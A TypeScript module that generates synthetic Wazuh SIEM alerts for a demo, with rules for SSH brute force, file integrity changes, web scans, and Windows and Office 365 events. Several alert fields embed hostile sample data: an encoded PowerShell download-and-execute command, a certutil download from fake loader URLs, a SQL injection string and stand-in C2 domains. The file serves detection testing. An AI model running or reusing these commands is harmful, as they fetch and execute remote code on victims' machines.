/**
 * Wazuh rules the demo fires, shaped after the real alerts in ../shared/fixtures/siem/wazuh-alerts
 * (rule ids, levels, descriptions, groups and MITRE mappings as Wazuh ships them), each with the
 * decoder output (`data`, `syscheck`, `full_log`) its alerts carry. Pure: a rule builds its
 * parts from the generator's random source.
 */
import type { Prng } from "./generator.js"

export interface Host {
  readonly name: string
  readonly agentId: string
  readonly ip: string
  readonly os: "linux" | "windows"
  readonly customer: string
}

export interface Mitre {
  readonly id: ReadonlyArray<string>
  readonly tactic: ReadonlyArray<string>
  readonly technique: ReadonlyArray<string>
}

/** What a rule adds to an alert document besides rule, agent, manager and timestamps. */
export interface Fired {
  readonly description?: string
  readonly fields: Record<string, unknown>
}

export interface Rule {
  readonly id: string
  readonly level: number
  readonly description: string
  readonly groups: ReadonlyArray<string>
  readonly mitre?: Mitre
  readonly os: "linux" | "windows" | "manager"
  /** How often it fires relative to the others. */
  readonly weight: number
  /** The tags an analyst gives its alerts. */
  readonly tags: ReadonlyArray<string>
  readonly fire: (rng: Prng, host: Host, at: Date) => Fired
}

export const externalIp = (rng: Prng) => `${rng.pick([45, 91, 103, 185, 193, 203])}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`
const users = ["admin", "root", "test", "oracle", "ubuntu", "backup", "jsmith", "svc_sql", "guest"]
const syslogTime = (at: Date) => at.toUTCString().slice(8, 11) + " " + String(at.getUTCDate()).padStart(2, " ") + " " + at.toISOString().slice(11, 19)

const sshd = (host: Host, at: Date, pid: number, line: string) => ({
  full_log: `${syslogTime(at)} ${host.name} sshd[${pid}]: ${line}`,
  predecoder: { program_name: "sshd", timestamp: syslogTime(at), hostname: host.name },
  decoder: { parent: "sshd", name: "sshd" },
  location: "/var/log/auth.log"
})

const eventChannel = (host: Host, rng: Prng, at: Date, system: Record<string, unknown>, eventdata: Record<string, unknown>) => ({
  decoder: { name: "windows_eventchannel" },
  location: "EventChannel",
  data: {
    win: {
      system: {
        eventRecordID: String(rng.int(10_000, 9_999_999)),
        processID: String(rng.int(400, 9000)),
        threadID: String(rng.int(400, 9000)),
        computer: `${host.name}.corp.local`,
        systemTime: at.toISOString().replace("Z", "0000Z"),
        ...system
      },
      eventdata
    }
  }
})

const sysmon = (eventID: string) => ({
  providerName: "Microsoft-Windows-Sysmon",
  providerGuid: "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
  eventID,
  channel: "Microsoft-Windows-Sysmon/Operational",
  level: "4",
  severityValue: "INFORMATION"
})

const security = (eventID: string) => ({
  providerName: "Microsoft-Windows-Security-Auditing",
  providerGuid: "{54849625-5478-4994-a5ba-3e3b0328c30d}",
  eventID,
  channel: "Security",
  level: "0",
  severityValue: "AUDIT_FAILURE"
})

const hashes = (rng: Prng) => `SHA1=${rng.hex(40).toUpperCase()},MD5=${rng.hex(32).toUpperCase()},SHA256=${rng.hex(64).toUpperCase()}`

const suricata = (rng: Prng, host: Host, signature: string, category: string, severity: number, srcIp: string) => ({
  decoder: { name: "json" },
  location: "/var/log/suricata/eve.json",
  data: {
    event_type: "alert",
    src_ip: srcIp,
    src_port: String(rng.int(1024, 65535)),
    dest_ip: host.ip,
    dest_port: String(rng.pick([22, 80, 443, 3389, 53])),
    proto: "TCP",
    alert: { action: "allowed", gid: "1", signature_id: String(rng.int(2_000_000, 2_999_999)), rev: "3", signature, category, severity: String(severity) }
  }
})

const syscheck = (rng: Prng, path: string, event: "added" | "modified") => ({
  decoder: { name: event === "added" ? "syscheck_new_entry" : "syscheck_integrity_changed" },
  location: "syscheck",
  full_log: `File '${path}' ${event}\nMode: realtime\n`,
  syscheck: {
    path, mode: "realtime", event, size_after: String(rng.int(200, 90_000)), perm_after: "rw-r--r--",
    uid_after: "0", gid_after: "0", uname_after: "root", gname_after: "root",
    md5_after: rng.hex(32), sha1_after: rng.hex(40), sha256_after: rng.hex(64)
  }
})

const vtFiles = ["/tmp/.x/kworker", "/var/www/html/uploads/shell.php", "/home/ubuntu/Downloads/invoice.pdf.exe", "/opt/app/lib/libcrypt.so.2"]
const c2Domains = ["update-cdn-sync.top", "login-secure-auth.xyz", "cdn-telemetry.info", "mail-relay-check.ru"]
const loaders = ["http://files.dl-cdn.top/a/setup.exe", "http://get.update-sync.io/p/x64.bin", "https://pastebin-raw.xyz/raw/8fj2k1"]

export const rules: ReadonlyArray<Rule> = [
  { id: "5710", level: 5, description: "sshd: Attempt to login using a non-existent user", groups: ["syslog", "sshd", "authentication_failed", "invalid_login"],
    mitre: { id: ["T1110.001"], tactic: ["Credential Access"], technique: ["Password Guessing"] }, os: "linux", weight: 10, tags: ["identity"],
    fire: (rng, host, at) => {
      const srcip = externalIp(rng), user = rng.pick(users), port = rng.int(30_000, 65_000)
      return { fields: { ...sshd(host, at, rng.int(1000, 60_000), `Invalid user ${user} from ${srcip} port ${port}`), data: { srcip, srcport: String(port), srcuser: user } } }
    } },
  { id: "5760", level: 5, description: "sshd: authentication failed.", groups: ["syslog", "sshd", "authentication_failed"],
    mitre: { id: ["T1110.001", "T1021.004"], tactic: ["Credential Access", "Lateral Movement"], technique: ["Password Guessing", "SSH"] }, os: "linux", weight: 8, tags: ["identity"],
    fire: (rng, host, at) => {
      const srcip = externalIp(rng), user = rng.pick(users), port = rng.int(30_000, 65_000)
      return { fields: { ...sshd(host, at, rng.int(1000, 60_000), `Failed password for ${user} from ${srcip} port ${port} ssh2`), data: { srcip, srcport: String(port), dstuser: user } } }
    } },
  { id: "5712", level: 10, description: "sshd: brute force trying to get access to the system. Non existent user.", groups: ["syslog", "sshd", "authentication_failures"],
    mitre: { id: ["T1110"], tactic: ["Credential Access"], technique: ["Brute Force"] }, os: "linux", weight: 3, tags: ["identity", "critical"],
    fire: (rng, host, at) => {
      const srcip = externalIp(rng), user = rng.pick(users)
      return { fields: { ...sshd(host, at, rng.int(1000, 60_000), `Invalid user ${user} from ${srcip} port ${rng.int(30_000, 65_000)}`), data: { srcip, srcuser: user } } }
    } },
  { id: "5402", level: 3, description: "Successful sudo to ROOT executed.", groups: ["syslog", "sudo"],
    mitre: { id: ["T1548.003"], tactic: ["Privilege Escalation", "Defense Evasion"], technique: ["Sudo and Sudo Caching"] }, os: "linux", weight: 4, tags: ["identity"],
    fire: (rng, host, at) => {
      const user = rng.pick(["ubuntu", "deploy", "jsmith"]), command = rng.pick(["/usr/bin/systemctl restart nginx", "/bin/bash", "/usr/bin/apt upgrade -y"])
      return { fields: {
        full_log: `${syslogTime(at)} ${host.name} sudo:   ${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
        predecoder: { program_name: "sudo", timestamp: syslogTime(at), hostname: host.name }, decoder: { parent: "sudo", name: "sudo" },
        location: "/var/log/auth.log", data: { srcuser: user, dstuser: "root", tty: "pts/0", pwd: `/home/${user}`, command }
      } }
    } },
  { id: "554", level: 5, description: "File added to the system.", groups: ["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"], os: "linux", weight: 4, tags: ["endpoint", "compliance"],
    fire: (rng) => ({ fields: syscheck(rng, rng.pick(["/usr/local/bin/backup.sh", "/etc/cron.d/update", "/tmp/.cache/agent", "/var/www/html/wp-content/plugins/x.php"]), "added") }) },
  { id: "550", level: 7, description: "Integrity checksum changed.", groups: ["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"],
    mitre: { id: ["T1565.001"], tactic: ["Impact"], technique: ["Stored Data Manipulation"] }, os: "linux", weight: 4, tags: ["endpoint", "compliance"],
    fire: (rng) => ({ fields: syscheck(rng, rng.pick(["/etc/passwd", "/etc/shadow", "/etc/ssh/sshd_config", "/usr/bin/ls"]), "modified") }) },
  { id: "31151", level: 10, description: "Multiple web server 400 error codes from same source ip.", groups: ["web", "accesslog", "web_scan", "recon"],
    mitre: { id: ["T1595.002"], tactic: ["Reconnaissance"], technique: ["Vulnerability Scanning"] }, os: "linux", weight: 5, tags: ["network"],
    fire: (rng, host, at) => {
      const srcip = externalIp(rng), url = rng.pick(["/.env", "/wp-login.php", "/phpmyadmin/", "/cgi-bin/luci"])
      return { fields: {
        full_log: `${srcip} - - [${at.toISOString()}] "GET ${url} HTTP/1.1" 404 153 "-" "Mozilla/5.00 (Nikto/2.1.6)"`,
        decoder: { name: "web-accesslog" }, location: "/var/log/nginx/access.log", data: { srcip, protocol: "GET", url, id: "404" }
      } }
    } },
  { id: "31103", level: 7, description: "SQL injection attempt.", groups: ["web", "accesslog", "attack", "sql_injection"],
    mitre: { id: ["T1190"], tactic: ["Initial Access"], technique: ["Exploit Public-Facing Application"] }, os: "linux", weight: 3, tags: ["network", "critical"],
    fire: (rng, host, at) => {
      const srcip = externalIp(rng), url = `/products.php?id=${rng.int(1, 99)}'%20UNION%20SELECT%20NULL,NULL--`
      return { fields: {
        full_log: `${srcip} - - [${at.toISOString()}] "GET ${url} HTTP/1.1" 200 5120 "-" "sqlmap/1.7.2#stable"`,
        decoder: { name: "web-accesslog" }, location: "/var/log/nginx/access.log", data: { srcip, protocol: "GET", url, id: "200" }
      } }
    } },
  { id: "86601", level: 3, description: "Suricata: Alert - ET SCAN Potential SSH Scan", groups: ["ids", "suricata"], os: "linux", weight: 5, tags: ["network"],
    fire: (rng, host) => ({ fields: suricata(rng, host, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, externalIp(rng)) }) },
  { id: "86601", level: 10, description: "Suricata: Alert - ET MALWARE Observed DNS Query to Known C2 Domain", groups: ["ids", "suricata"],
    mitre: { id: ["T1071.004"], tactic: ["Command and Control"], technique: ["DNS"] }, os: "linux", weight: 2, tags: ["network", "critical", "malware"],
    // The Graylog pipeline's threat-intel lookup adds threat_intel_value to the documents it enriches.
    fire: (rng, host) => ({ fields: { ...suricata(rng, host, "ET MALWARE Observed DNS Query to Known C2 Domain", "A Network Trojan was detected", 1, host.ip), threat_intel_value: rng.pick(c2Domains) } }) },
  { id: "87105", level: 12, description: "VirusTotal: Alert", groups: ["virustotal"],
    mitre: { id: ["T1203"], tactic: ["Execution"], technique: ["Exploitation for Client Execution"] }, os: "linux", weight: 2, tags: ["malware"],
    fire: (rng, _host, at) => {
      const file = rng.pick(vtFiles), positives = 30 + (file.length % 29)
      return {
        description: `VirusTotal: Alert - ${file} - ${positives} engines detected this file`,
        fields: { decoder: { name: "json" }, location: "virustotal", data: { integration: "virustotal", virustotal: {
          found: "1", malicious: "1", positives: String(positives), total: "70", scan_date: at.toISOString().slice(0, 19).replace("T", " "),
          source: { file, md5: rng.hex(32), sha1: rng.hex(40), alert_id: `${Math.floor(at.getTime() / 1000)}.${rng.int(1000, 99999)}` },
          permalink: `https://www.virustotal.com/gui/file/${rng.hex(64)}/detection`
        } } }
      }
    } },
  { id: "60122", level: 5, description: "Logon Failure - Unknown user or bad password", groups: ["windows", "windows_security", "authentication_failed"],
    mitre: { id: ["T1531"], tactic: ["Impact"], technique: ["Account Access Removal"] }, os: "windows", weight: 8, tags: ["identity"],
    fire: (rng, host, at) => ({ fields: eventChannel(host, rng, at, security("4625"),
      { targetUserName: rng.pick(users), targetDomainName: "CORP", logonType: "3", ipAddress: externalIp(rng), ipPort: String(rng.int(1024, 65535)), status: "0xc000006d", subStatus: "0xc000006a", workstationName: "-" }) }) },
  { id: "60204", level: 10, description: "Multiple Windows Logon Failures", groups: ["windows", "windows_security", "authentication_failures"],
    mitre: { id: ["T1110"], tactic: ["Credential Access"], technique: ["Brute Force"] }, os: "windows", weight: 3, tags: ["identity", "critical"],
    fire: (rng, host, at) => ({ fields: eventChannel(host, rng, at, security("4625"),
      { targetUserName: "administrator", targetDomainName: "CORP", logonType: "10", ipAddress: externalIp(rng), status: "0xc000006d" }) }) },
  { id: "62123", level: 12, description: "Windows Defender: Antimalware platform detected potentially unwanted software", groups: ["windows", "windows_defender"], os: "windows", weight: 3, tags: ["malware", "endpoint"],
    fire: (rng, host, at) => ({ fields: eventChannel(host, rng, at,
      { providerName: "Microsoft-Windows-Windows Defender", eventID: "1116", channel: "Microsoft-Windows-Windows Defender/Operational", level: "3", severityValue: "WARNING" },
      { "product Name": "Microsoft Defender Antivirus", "threat Name": rng.pick(["Trojan:Win32/Wacatac.B!ml", "HackTool:Win32/Mimikatz", "PUA:Win32/Presenoker"]),
        "severity Name": "Severe", path: `file:_C:\\Users\\${rng.pick(users)}\\Downloads\\${rng.hex(8)}.exe`, "detection User": `CORP\\${rng.pick(users)}` }) }) },
  { id: "92057", level: 12, description: "Powershell.exe spawned a powershell process which executed a base64 encoded command", groups: ["sysmon", "sysmon_eid1_detections", "windows"],
    mitre: { id: ["T1059.001"], tactic: ["Execution"], technique: ["PowerShell"] }, os: "windows", weight: 3, tags: ["endpoint"],
    fire: (rng, host, at) => ({ fields: eventChannel(host, rng, at, sysmon("1"), {
      image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", originalFileName: "PowerShell.EXE", company: "Microsoft Corporation",
      commandLine: `powershell.exe -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${rng.pick(c2Domains)}/a')`).toString("base64")}`,
      parentImage: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", parentCommandLine: "powershell.exe", user: `CORP\\${rng.pick(users)}`,
      currentDirectory: "C:\\Users\\Public\\", hashes: hashes(rng), integrityLevel: "Medium" }) }) },
  { id: "92213", level: 15, description: "Executable file dropped in folder commonly used by malware", groups: ["sysmon", "sysmon_eid11_detections", "windows"],
    mitre: { id: ["T1105"], tactic: ["Command and Control"], technique: ["Ingress Tool Transfer"] }, os: "windows", weight: 2, tags: ["malware", "endpoint"],
    fire: (rng, host, at) => ({ fields: eventChannel(host, rng, at, sysmon("11"), {
      image: "C:\\Windows\\System32\\certutil.exe", targetFilename: `C:\\Users\\Public\\${rng.hex(6)}.exe`, user: `CORP\\${rng.pick(users)}` }) }) },
  { id: "92012", level: 12, description: "Certutil.exe used to download a file", groups: ["sysmon", "sysmon_eid1_detections", "windows"],
    mitre: { id: ["T1105"], tactic: ["Command and Control"], technique: ["Ingress Tool Transfer"] }, os: "windows", weight: 2, tags: ["endpoint", "malware"],
    fire: (rng, host, at) => {
      const url = rng.pick(loaders)
      return { fields: { ...eventChannel(host, rng, at, sysmon("1"), {
        image: "C:\\Windows\\System32\\certutil.exe", originalFileName: "CertUtil.exe", company: "Microsoft Corporation",
        commandLine: `certutil.exe -urlcache -split -f ${url} C:\\Users\\Public\\svc.exe`, parentImage: "C:\\Windows\\System32\\cmd.exe",
        user: `CORP\\${rng.pick(users)}`, currentDirectory: "C:\\Windows\\system32\\", hashes: hashes(rng) }), threat_intel_value: url } }
    } },
  { id: "92900", level: 15, description: "LSASS process was accessed by an unusual process (possible credential dumping)", groups: ["sysmon", "sysmon_eid10_detections", "windows"],
    mitre: { id: ["T1003.001"], tactic: ["Credential Access"], technique: ["LSASS Memory"] }, os: "windows", weight: 1, tags: ["critical", "endpoint", "identity"],
    fire: (rng, host, at) => ({ fields: eventChannel(host, rng, at, sysmon("10"), {
      sourceImage: rng.pick(["C:\\Users\\Public\\procdump64.exe", "C:\\Windows\\Temp\\m64.exe"]), targetImage: "C:\\Windows\\system32\\lsass.exe",
      grantedAccess: "0x1010", sourceUser: `CORP\\${rng.pick(users)}` }) }) },
  { id: "91545", level: 3, description: "Office 365: Secure Token Service (STS) logon events in Azure Active Directory.", groups: ["office365", "AzureActiveDirectoryStsLogon"], os: "manager", weight: 4, tags: ["identity", "cloud"],
    fire: (rng) => ({ fields: { decoder: { name: "json" }, location: "office365", data: { integration: "office365", office365: {
      Operation: "UserLoggedIn", Workload: "AzureActiveDirectory", ResultStatus: "Success", RecordType: "15",
      UserId: `${rng.pick(users)}@corp.example`, ClientIP: externalIp(rng), OrganizationId: "0fea4e03-8146-453b-b889-54b4bd11565b" } } } }) },
  { id: "91709", level: 6, description: "Office 365: Added user.", groups: ["office365", "AzureActiveDirectory"],
    mitre: { id: ["T1078", "T1098.001"], tactic: ["Persistence", "Privilege Escalation"], technique: ["Valid Accounts", "Additional Cloud Credentials"] }, os: "manager", weight: 1, tags: ["cloud", "identity"],
    fire: (rng) => ({ fields: { decoder: { name: "json" }, location: "office365", data: { integration: "office365", office365: {
      Operation: "Add user.", Workload: "AzureActiveDirectory", ResultStatus: "Success", RecordType: "8",
      ObjectId: `${rng.pick(users)}${rng.int(1, 99)}@corp.example`, UserId: "admin@corp.example", ClientIP: externalIp(rng) } } } }) }
]

/** The tags of the alerts a rule's description makes (titles of VirusTotal rules vary by file). */
export const tagsOfTitle = (title: string): ReadonlyArray<string> =>
  rules.find((r) => r.description === title || (r.id === "87105" && title.startsWith("VirusTotal: Alert")))?.tags ?? []
